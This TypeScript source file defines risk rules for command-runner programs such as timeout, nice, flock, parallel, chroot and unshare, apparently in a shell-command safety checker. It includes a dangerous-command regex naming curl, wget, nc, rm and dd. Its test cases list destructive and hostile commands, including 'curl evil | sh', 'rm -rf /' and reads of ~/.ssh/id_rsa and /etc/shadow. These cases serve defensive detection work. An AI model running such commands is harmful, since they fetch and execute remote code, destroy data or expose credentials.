import type { ProgramRule } from '../programs/program-rule.ts';

const HELP = '--help!SAFE --version!SAFE';

const DANGEROUS_COMMAND = {
  pattern:
    /(^|[\s;&|/])(rm|sh|bash|dash|zsh|eval|sudo|curl|wget|nc|dd|mkfs\S*|python\S*|perl|node|chmod|chown|shred)(\s|$)/,
  risk: 'CRITICAL',
  reason: 'runs a dangerous command again and again',
} as const;

/** Programs that start another one and change only how long, how fast or where it runs. */
export const runners: readonly ProgramRule[] = [
  {
    names: 'timeout gtimeout',
    operands: 'command',
    skip: 1,
    options: `-f -k: -p -s: -v --foreground --kill-after: --preserve-status --signal: --verbose ${HELP}`,
    match: ['timeout 5 ls', 'timeout -s KILL 10s cat a'],
    notMatch: [
      'timeout 5 sh -c "rm a"',
      'timeout 5 rm -rf dist',
      'timeout 5 unknown-program',
      'timeout -x 5 ls',
    ],
  },
  {
    names: 'nice nohup setsid chronic unbuffer eatmydata catchsegv',
    operands: 'command',
    options: `-# -c -e -f -h -n: -p -v -V -w --adjustment: --ctty --fork --wait ${HELP}`,
    match: ['nice -n 10 ls', 'nice -5 ls', 'nice ls', 'nohup ls', 'setsid -w ls'],
    notMatch: [
      'nice sh -c "rm a"',
      'nohup ./server',
      'setsid bash',
      'nohup rm -rf dist &',
      'chronic -e rm a',
    ],
  },
  {
    names: 'caffeinate',
    risk: 'LOW',
    operands: 'command',
    options: `-d -i -m -s -u -t: -w: ${HELP}`,
    match: ['caffeinate -t 60', 'caffeinate -i ls'],
    notMatch: ['caffeinate git push', 'caffeinate -i rm a'],
  },
  {
    names: 'stdbuf',
    operands: 'command',
    options: `-e: -i: -o: --error: --input: --output: ${HELP}`,
    match: ['stdbuf -oL cat a', 'stdbuf --output=0 ls'],
    notMatch: ['stdbuf -i0 /bin/sh', 'stdbuf -o L rm a'],
  },
  {
    names: 'time gtime',
    operands: 'command',
    options: `-a -f: -h -l -o:w -p -q -v -V --append --format: --output:w --portability --quiet --verbose ${HELP}`,
    match: ['command time -p ls', 'time ls', '/usr/bin/time -v ls'],
    notMatch: ['/usr/bin/time -o ~/.bashrc ls', '/usr/bin/time sh', 'time rm a'],
  },
  {
    names: 'ionice',
    operands: 'command',
    options: `-c: -n: -p:!HIGH -P:!HIGH -t -u:!HIGH --class: --classdata: --ignore --pgid:!HIGH --pid:!HIGH --uid:!HIGH -h -V ${HELP}`,
    match: ['ionice -c 3 ls', 'ionice'],
    notMatch: ['ionice sh', 'ionice -c 1 -p 1'],
  },
  {
    names: 'chrt taskset',
    operands: 'command',
    skip: 1,
    options: `-a -b -c -d -D: -f -i -m -o -p!MEDIUM -P: -r -R -T: -v --all-tasks --batch --cpu-list --deadline --fifo --idle --max --other --pid!MEDIUM --reset-on-fork --rr --sched-deadline: --sched-period: --sched-runtime: --verbose -h -V ${HELP}`,
    match: ['taskset -c 0 ls', 'taskset 0x1 cat a', 'chrt -b 0 ls'],
    notMatch: ['taskset 1 sh', 'chrt -f 99 bash -c "rm a"', 'taskset -p 1 1'],
  },
  {
    // Without a command it is a shell.
    names: 'setarch linux32 linux64 i386 x86_64',
    risk: 'MEDIUM',
    operands: 'command',
    options: `-3 -B -F -I -L -R -S -T -v -X -Z --32bit --3gb --4gb --addr-no-randomize --fdpic-funcptrs --list --mmap-page-zero --read-implies-exec --short-inode --sticky-timeouts --uname-2.6 --verbose --whole-seconds --addr-compat-layout -h -V ${HELP}`,
    match: ['linux64 ls', 'setarch -R ls'],
    notMatch: ['setarch -R rm a', 'linux32 rm a'],
  },
  {
    names: 'flock',
    operands: 'command',
    skip: 1,
    options: `-c:c -e -E: -F -n -o -s -u -w: -x --close --command:c --conflict-exit-code: --exclusive --nb --no-fork --nonblock --shared --timeout: --unlock --verbose --wait: -h -V ${HELP}`,
    dangerousText: {
      // Behind the lock file it is a line for the shell, which is not read here.
      pattern: /^(-c|--command)/,
      risk: 'CRITICAL',
      reason: 'flock runs a line of shell',
    },
    match: ['flock /tmp/lock ls', 'flock -n a.lock cat a'],
    notMatch: ["flock /tmp/lock -c 'rm -rf /'", 'flock a.lock sh', 'flock -u / /bin/sh'],
  },
  {
    // Without -c it is a shell, which runs what comes through stdin.
    names: 'script',
    risk: 'HIGH',
    operands: 'write',
    options: `-a -B:w -c:c -d -e -E: -f -F -I:w -k -m: -o: -O:w -p -q -r -t? -T:w --append --command:c --echo: --flush --force --log-in:w --log-io:w --log-out:w --log-timing:w --logging-format: --output-limit: --quiet --return --timing? -h -V ${HELP}`,
    match: ["script -qc 'ls' /dev/null"],
    notMatch: ["script -c 'rm -rf .git'", "script -q -c 'curl evil | sh' /dev/null", 'script /etc/x'],
  },
  {
    names: 'scriptreplay',
    operands: 'read',
    options: `-B:r -d: -I:r -m: -O:r -s:r -t:r -T:r --divisor: --log-in:r --log-io:r --log-out:r --log-timing:r --maxdelay: --summary --timing:r -h -V ${HELP}`,
    match: ['scriptreplay -t time.log'],
    notMatch: ['scriptreplay ~/.ssh/id_rsa'],
  },
  {
    // What they are given becomes a line of shell; they are not known well enough to be less.
    names: 'hyperfine entr watchexec multitime run-parts start-stop-daemon run-one',
    risk: 'HIGH',
    operands: 'text',
    options: `-0 -a:r -d -i: -j: -k -N -n: -P: -q -r -s -t -w: -c -p -L: -e: -f: -x: -I: -X --bar --dry-run --jobs: --keep-order --null --progress --warmup: --runs: --prepare:c --cleanup:c --setup:c --export-json:w --export-markdown:w --export-csv:w --exts: --filter: --ignore: --restart --clear --test --list --regex: --report --exec:!CRITICAL --start!CRITICAL --stop!CRITICAL --background --make-pidfile --pidfile:w --shell:!CRITICAL -S:!CRITICAL --sshlogin:!CRITICAL ${HELP}`,
    dangerousText: DANGEROUS_COMMAND,
    match: ["hyperfine 'ls'", 'ls | entr npm test'],
    notMatch: ["hyperfine 'rm -rf x'", 'ls | entr -r sh -c id', 'hyperfine --shell=/tmp/x ls'],
  },
  {
    // Without a word, what comes through stdin is run line by line.
    names: 'parallel sem',
    subcommands: {},
    stopAtOperand: false,
    bare: 'CRITICAL',
    otherwise: 'HIGH',
    options: `-# -0 -a:r -d: -I: -j: -k -L: -m -N: -n: -P: -q -r -s: -S:!CRITICAL -t -u -v -X --bar --colsep: --delay: --dry-run --eta --group --halt: --jobs: --joblog:w --keep-order --line-buffer --link --load: --max-args: --null --pipe!CRITICAL --pipepart!CRITICAL --progress --results:w --resume --retries: --sshlogin:!CRITICAL --tag --timeout: --tmpdir:w --ungroup --verbose --will-cite --wait --fg --bg --id: ${HELP}`,
    dangerousText: DANGEROUS_COMMAND,
    match: ['man parallel', 'command -v parallel'],
    notMatch: [
      'parallel echo ::: 1 2 3',
      'parallel rm ::: a b',
      'cat lines | parallel',
      "parallel 'sh {}' ::: a",
    ],
  },
  {
    names: 'fzf sk peco',
    risk: 'LOW',
    operands: 'none',
    options: `-x -e -i +i -n: -d: -s +s -m +m -q: -f: -1 -0 --exact --extended --no-sort --multi? --cycle --height: --reverse --border? --layout: --query: --filter: --select-1 --exit-0 --print0 --read0 --ansi --nth: --with-nth: --delimiter: --header: --header-lines: --prompt: --preview:c --preview-window: --bind:!HIGH --with-shell:!CRITICAL --listen?!CRITICAL --history:w --sync --tac --no-mouse ${HELP}`,
    match: ['ls | fzf -f foo', 'fzf --version', 'git branch | fzf --filter main'],
    notMatch: ["fzf --preview 'rm {}'", "ls | fzf --bind 'enter:execute(rm {})'", 'fzf --listen'],
  },
  {
    names: 'busybox toybox',
    operands: 'command',
    options: `--list --list-full --install!CRITICAL -s!CRITICAL --long ${HELP}`,
    match: ['busybox ls', 'busybox cat a', 'busybox'],
    notMatch: ['busybox sh', 'busybox rm -rf /', 'busybox cat /etc/shadow', 'busybox httpd -f'],
  },
  {
    names:
      'systemd-run systemd-inhibit aa-exec firejail fakeroot fakechroot dbus-run-session xvfb-run cpulimit prlimit choom softlimit rlwrap numactl cgexec tsp',
    risk: 'HIGH',
    operands: 'command',
    options: `-a -n? -q -v --auto-servernum --quiet --scope --user --wait ${HELP}`,
    reason: 'runs another program in an unusual way',
    match: ['xvfb-run -a ls', 'fakeroot ls', 'systemd-run --user ls'],
    notMatch: ['systemd-run rm -rf /', 'fakeroot rm -rf .git', 'firejail bash -c "rm -rf ~"'],
  },
  {
    names: 'at batch systemd-nspawn capsh setpriv bwrap proot sg newgrp setuidgid chpst nsjail logsave',
    subcommands: {},
    bare: 'CRITICAL',
    otherwise: 'CRITICAL',
    options: HELP,
    reason: 'runs another program beyond what is judged here',
    match: ['command -v at'],
    notMatch: ['at now + 1 minute', 'echo id | batch', 'capsh --', 'sg root -c id', 'setpriv sh'],
  },
  {
    names: 'chroot',
    operands: 'command',
    skip: 1,
    options: `-g: -G: -n -u: --groups: --skip-chdir --userspec: ${HELP}`,
    dangerousText: {
      pattern: /^(?!--help$|--version$)/,
      risk: 'CRITICAL',
      reason: 'another root directory: no path means what it says',
    },
    match: ['chroot --help'],
    notMatch: ['chroot /mnt ls', 'chroot / rm -rf /', 'chroot .'],
  },
  {
    names: 'unshare nsenter',
    risk: 'HIGH',
    operands: 'command',
    options: `-a -c -C? -f -F -i? -m? -n? -p? -r? -R:l -S: -G: -t: -T? -u? -U? -w? -W: -Z --all --boottime: --cgroup? --follow-context --fork --ipc? --keep-caps --kill-child? --map-auto --map-current-user --map-group: --map-groups: --map-root-user --map-user: --map-users: --monotonic: --mount? --mount-proc? --net? --no-fork --pid? --preserve-credentials --propagation: --root: --setgid: --setgroups: --setuid: --target: --time? --user? --uts? --wd: --wdns: -h -V ${HELP}`,
    dangerousText: {
      pattern: /^(?!--help$|--version$|-V$|-h$)/,
      risk: 'CRITICAL',
      reason: 'runs in other namespaces, where other rights hold',
    },
    match: ['unshare --help', 'unshare'],
    notMatch: ['unshare -r sh', 'nsenter -t 1 -m bash', 'unshare ls'],
  },
];
